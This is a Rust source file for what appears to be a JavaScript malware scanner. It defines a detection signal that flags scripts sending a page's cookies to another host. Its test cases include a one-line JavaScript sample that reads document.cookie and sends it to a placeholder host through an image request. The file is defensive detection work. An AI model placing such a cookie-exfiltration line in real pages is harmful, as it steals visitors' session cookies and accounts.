//! `cookies-sent-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "cookies-sent-abroad",
    description: "The script sends this page's cookies, or parts of them, to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::CookiesSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["var c=escape(document.cookie);new Image().src='http://c.example/s?c='+c"],
        without: &["var c=document.cookie.indexOf('seen=');if(c<0)fetch('https://c.example/hello')"],
    },
};
